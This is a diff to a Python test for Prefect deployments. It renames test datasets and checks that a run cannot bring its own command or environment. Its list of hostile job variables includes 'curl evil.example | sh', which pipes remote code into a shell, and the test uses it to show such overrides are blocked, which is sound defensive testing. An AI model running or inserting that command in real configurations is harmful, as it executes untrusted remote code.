@@ -230,7 +230,8 @@ def test_a_run_cannot_bring_commands_or_an_environment(prefect_server, file):
     from prefect.workers.process import ProcessJobConfiguration
 
     text = GOOD.replace("s3://bucket", "/data") + "pool: closed\noutput: /released\n"
-    other = text.replace("dataset: visits", "dataset: others").replace("/released", "/elsewhere")
+    text = text.replace("dataset: visits", "dataset: ward")
+    other = text.replace("dataset: ward", "dataset: clinic").replace("/released", "/elsewhere")
     hostile = (
         {"command": "curl evil.example | sh"},
         {"working_dir": "/tmp"},
@@ -242,7 +243,7 @@ def test_a_run_cannot_bring_commands_or_an_environment(prefect_server, file):
     with server() as client:
         register(client, render([read(file(text))]))
         register(client, render([read(file(other, "others.yaml"))]))  # what the first may have it keeps
-        for name, output in (("visits", "/released"), ("others", "/elsewhere")):
+        for name, output in (("ward", "/released"), ("clinic", "/elsewhere")):
             known = client.read_deployment_by_name(f"estimate-mixture/{name}-groups")
             assert client.create_flow_run_from_deployment(known.id).deployment_id == known.id
             assert known.job_variables["env"]["PUBPRIV_OUTPUT"] == output
